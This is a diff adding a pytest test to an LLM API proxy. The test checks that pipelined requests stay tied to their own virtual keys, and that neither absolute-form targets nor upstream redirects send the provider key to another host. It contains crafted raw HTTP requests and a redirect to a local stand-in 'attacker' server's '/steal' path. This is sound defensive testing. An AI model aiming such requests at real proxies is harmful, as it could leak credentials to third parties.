@@ -413,3 +413,51 @@ def test_the_virtual_key_never_reaches_the_upstream_whatever_carries_it(tmp_path
         ("/v1/models", 400),
         ("/v1/models/***", 400),
     ]
+
+
+def test_pipelined_requests_absolute_targets_and_redirects_stay_with_the_upstream_and_their_keys(tmp_path):
+    # Held already (no fix): two requests in one packet are two rows, each with its own key; an
+    # absolute-form target names a host tokenward ignores; an upstream's redirect to another host is
+    # relayed, never followed, so the provider key goes nowhere else.
+    other = "tw-edge-other-key-0002"
+
+    async def handle(request: web.Request, body: bytes) -> web.StreamResponse:
+        if request.path == "/v1/models/moved":
+            raise web.HTTPTemporaryRedirect(f"http://127.0.0.1:{servers.attacker_port}/steal")
+        return web.json_response({"object": "list", "data": []})
+
+    with Servers(handle).running() as servers:
+        config = Config(
+            upstreams=[UpstreamConfig(name="o", base_url=f"{servers.upstream_url}/v1", provider="openai",
+                                      api_key_env="EDGE_KEY")],
+            ledger=LedgerConfig(path=str(tmp_path / "l.duckdb"), flush_interval_s=0.05),
+            auth=AuthConfig(mode="virtual_keys"),
+            virtual_keys=[VirtualKeyConfig(name="a", key=KEY), VirtualKeyConfig(name="b", key=other)],
+        )  # fmt: skip
+        with running_in_thread(create_app(config)) as url:
+            first = f"GET /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {KEY}\r\n\r\n"
+            second = f"GET /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {other}\r\nConnection: close\r\n\r\n"
+            host, port = url.removeprefix("http://").split(":")
+            with socket.create_connection((host, int(port)), timeout=10) as sock:
+                sock.sendall((first + second).encode())  # one packet
+                data = b""
+                while chunk := sock.recv(65536):
+                    data += chunk
+            absolute, _ = raw(
+                url,
+                f"GET http://127.0.0.1:{servers.attacker_port}/v1/models HTTP/1.1\r\nHost: 127.0.0.1:"
+                f"{servers.attacker_port}\r\nAuthorization: Bearer {KEY}\r\nConnection: close\r\n\r\n".encode(),
+            )
+            status, _ = raw(
+                url, f"GET /v1/models/moved HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {KEY}\r\nConnection: close\r\n\r\n".encode()
+            )  # fmt: skip
+    assert data.count(b"HTTP/1.1 200 OK") == 2 and absolute == 200 and status == 307
+    assert [r["target"] for r in servers.requests] == ["/v1/models"] * 3 + ["/v1/models/moved"]
+    assert servers.attacker_connections == 0 and servers.attacker_bytes == b""
+    rows = read_rows(tmp_path / "l.duckdb")
+    assert [(r["principal"], r["path"], r["http_status"]) for r in rows] == [
+        ("a", "/v1/models", 200),
+        ("b", "/v1/models", 200),
+        ("a", "/v1/models", 200),
+        ("a", "/v1/models/moved", 307),
+    ]
